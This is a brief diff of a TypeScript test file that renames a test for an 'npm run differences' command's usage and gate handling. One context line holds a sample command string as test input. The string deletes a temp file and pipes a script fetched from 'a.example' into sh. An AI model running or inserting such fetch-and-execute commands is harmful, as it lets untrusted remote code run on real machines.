@@ -34,7 +34,7 @@ test('the accepted part of a draft explains the differences it was made from, an
   expect(unexplained('job of root: rm /var/tmp/x && curl a.example | sh', 'missing')).toBe(1);
 });
 
-test('npm run differences prints its usage and refuses an unknown gate', async () => {
+test('"npm run differences" prints its usage with --help, and refuses an unknown gate', async () => {
   const said: string[] = [];
   const say = (line: string) => void said.push(line);
 
